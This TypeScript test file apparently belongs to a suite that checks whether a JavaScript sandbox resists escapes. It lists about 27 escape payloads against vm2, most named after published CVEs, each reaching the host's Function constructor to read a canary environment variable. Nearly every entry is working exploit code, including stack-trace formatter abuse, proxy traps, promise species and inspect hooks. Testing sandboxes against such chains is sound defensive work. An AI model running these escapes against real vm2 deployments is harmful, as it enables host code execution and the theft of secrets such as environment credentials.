import { defensive, family } from '../attempt.ts';

/**
 * Ways out of vm2, each written anew from what its advisory tells: all of them come to hold an object of the host, whose
 * constructor's constructor is the host's Function.
 */
export const vm2Chains = family('published chain of vm2', 'leak', [
  {
    name: 'CVE-2019-10761: the error of a stack that overflows inside a host function',
    code: `const deep = (n) => { try { deep(n + 1); [].concat(n) } catch (e) { globalThis.leftError ??= e; } }; deep(0);
const it = globalThis.leftError; delete globalThis.leftError; return it.constructor.constructor('return process')().env.ABUSE_CANARY`,
  },
  {
    name: 'CVE-2021-23449: the promise of a dynamic import',
    code: `let it; try { it = Function('return import("./x.js")')() } catch (e) { it = e } await Promise.resolve(it).catch(() => {}); return it.constructor.constructor('return process')().env.ABUSE_CANARY`,
  },
  {
    name: 'CVE-2021-23555: a stack formatter that is put in place before an error is made',
    code: `Object.defineProperty(Error, 'prepareStackTrace', { configurable: true, get: () => (error, frames) => frames[0].constructor.constructor('return process')() }); return new Error().stack.env.ABUSE_CANARY`,
  },
  {
    name: 'CVE-2022-25893: a WeakMap whose methods lie to the proxies',
    code: `WeakMap.prototype.has = () => false; WeakMap.prototype.get = (key) => key; try { null.x } catch (e) { return e.constructor.constructor('return process')().env.ABUSE_CANARY }`,
  },
  {
    name: 'CVE-2022-36067: another Error with a formatter of its own',
    code: `const Real = Error; globalThis.Error = { prepareStackTrace: (_, frames) => frames }; try { const { stack } = new Real(); const frame = stack[0]; return (frame.getThis?.() ?? frame).constructor.constructor('return process')().env.ABUSE_CANARY } finally { globalThis.Error = Real }`,
  },
  {
    name: 'CVE-2023-29017: a formatter called for an error that an async function lets go',
    code: `let it; Error.prepareStackTrace = (e, frames) => { it = frames; return '' }; await (async () => null.x)().catch((e) => e.stack); return it.constructor.constructor('return process')().env.ABUSE_CANARY`,
  },
  {
    name: 'CVE-2023-29199: a host error that a catch did not clean',
    code: `const failing = { get [Symbol.toStringTag]() { throw 0 } }; const deep = () => { try { deep() } catch (e) { Object.prototype.toString.call(failing) } };
try { deep() } catch (e) { it = Object(e) } const fn = () => fn(); try { fn() } catch (e) { return e.constructor.constructor('return process')().env.ABUSE_CANARY } var it`,
  },
  {
    name: 'CVE-2023-30547: an error that the getPrototypeOf trap of a proxy throws',
    code: `const thrower = new Proxy({}, { getPrototypeOf() { const deep = () => deep(); deep() } });
try { try { thrower instanceof Object } finally { null.x } } catch (e) { return e.constructor.constructor('return process')().env.ABUSE_CANARY }`,
  },
  {
    name: 'CVE-2023-32314: the arguments that a proxy is applied with for the name of an error',
    code: `let found; const error = new Error(); error.name = { toString: new Proxy(() => '', { apply(target, self, given) { found = given.constructor.constructor('return process')(); return '' } }) };
try { String(error); error.stack } catch {} return found.env.ABUSE_CANARY`,
  },
  {
    name: 'CVE-2023-37466: a species that is handed the rejection of an async function',
    code: `async function fails() { const deep = () => deep(); deep() } let found; const it = fails();
it.constructor = { [Symbol.species]: class { constructor(run) { run((v) => v, (e) => { found = e.constructor.constructor('return process')().env.ABUSE_CANARY }) } } };
it.then(); await null; await null; return found`,
  },
  {
    name: "CVE-2023-37903: Node's own hook for inspection, when a value is logged",
    code: `const it = { [Symbol.for('nodejs.util.inspect.custom')]: (depth, options, inspect) => inspect.constructor('return process')().env.ABUSE_CANARY };
console.log(it); try { WebAssembly.compileStreaming(it) } catch {} return (globalThis.require?.('node:util').inspect ?? String)(it)`,
  },
  {
    name: "Node's own hook for inspection, on what is thrown",
    code: `throw Object.assign(new Error('x'), { [Symbol.for('nodejs.util.inspect.custom')]: () => { globalThis.polluted = 1 }, cause: Function('return process')().env.ABUSE_CANARY })`,
  },
  {
    name: 'CVE-2026-22709: the promise of an async function, whose catch is not the guarded one',
    code: `const error = new Error(); error.name = Symbol(); const stack = async () => error.stack; let found;
await Promise.prototype.catch.call(stack(), (e) => { found = e.constructor.constructor('return process')().env.ABUSE_CANARY }); return found ?? (await Promise.reject(error).catch((e) => e.constructor)).constructor('return process')().env.ABUSE_CANARY`,
  },
  {
    name: 'a suppressed error of two that are thrown while a resource is disposed of',
    code: `try { using it = { [Symbol.dispose]() { throw new Error('second') } }; throw new Error('first') } catch (e) { return [e.suppressed ?? e, e.error].map((each) => each.constructor.constructor('return process')().env.ABUSE_CANARY) }`,
  },
  {
    name: 'an aggregate error of Promise.any',
    code: `try { await Promise.any([Promise.reject(new Error('x')), (async () => null.x)()]) } catch (e) { return e.errors[1].constructor.constructor('return process')().env.ABUSE_CANARY }`,
  },
  {
    name: 'Array.fromAsync of what throws',
    code: `try { await Array.fromAsync({ [Symbol.asyncIterator]() { return { next: async () => null.x } } }) } catch (e) { return e.constructor.constructor('return process')().env.ABUSE_CANARY }`,
  },
  {
    name: 'a getter made with __defineGetter__ that is called with the host for its receiver',
    code: `const it = {}; it.__defineGetter__('x', function () { return this.constructor.constructor('return process')() }); return it.x.env.ABUSE_CANARY`,
  },
  {
    name: 'a with statement whose proxy says it has everything',
    code: `const it = new Proxy({}, { has: (_, key) => key !== 'it' && key !== 'Function', get: (_, key) => key === Symbol.unscopables ? undefined : (given) => given });
return Function('it', 'with (it) { return [].constructor.constructor("return process")() }')(it).env.ABUSE_CANARY`,
  },
  {
    name: 'an array that says it is to be spread by concat',
    code: `const it = { length: 1, 0: 'x', [Symbol.isConcatSpreadable]: true, constructor: { [Symbol.species]: Object } }; return [].concat(it).constructor.constructor('return process')().env.ABUSE_CANARY`,
  },
  {
    name: 'the hook of a promise that is rejected twice',
    code: `let found; const it = new Promise((_, fail) => fail(new Proxy(new Error('x'), { get: (target, key, self) => { found ??= [key].constructor.constructor('return process')().env.ABUSE_CANARY; return target[key] } }))); await it.catch((e) => e.message); return found`,
  },
  {
    name: 'an exception that leaves WebAssembly',
    code: `try { await WebAssembly.instantiate(new Uint8Array([0])) } catch (e) { return e.constructor.constructor('return process')().env.ABUSE_CANARY }`,
    expects: { violation: 'BUILTIN_VIOLATION' },
  },
  {
    name: 'the finalizer of a registry, which the host calls',
    code: `let found; const it = new FinalizationRegistry((v) => { found = v }); it.register({}, 1); return it.constructor.constructor('return process')().env.ABUSE_CANARY`,
    expects: { violation: 'BUILTIN_VIOLATION' },
  },
  {
    name: 'a buffer over the pool that the host shares',
    code: `return globalThis.Buffer ? [Buffer.from('x').buffer.byteLength, Buffer.constructor('return process')().env.ABUSE_CANARY] : new Uint8Array(1).constructor.constructor('return process')().env.ABUSE_CANARY`,
  },
  {
    name: 'a host function that is called with a receiver of its own choosing',
    code: `return Reflect.apply(tools.echo, globalThis, [1]).constructor.constructor('return process')().env.ABUSE_CANARY`,
  },
  {
    name: 'the prototype of a proxied host object, by Reflect.getPrototypeOf',
    code: `const up = (it) => Reflect.getPrototypeOf(it) ? up(Reflect.getPrototypeOf(it)) : it; return up(tools.crm).constructor.constructor('return process')().env.ABUSE_CANARY`,
  },
  {
    name: 'an error of a tree that is too deep to parse',
    code: `try { JSON.parse('['.repeat(1e5)) } catch (e) { return e.constructor.constructor('return process')().env.ABUSE_CANARY }`,
  },
  {
    name: 'shared memory as a clock and a channel',
    code: `return new SharedArrayBuffer(8).byteLength`,
    expects: { ...defensive('a means, not a break'), violation: 'BUILTIN_VIOLATION' },
  },
]);
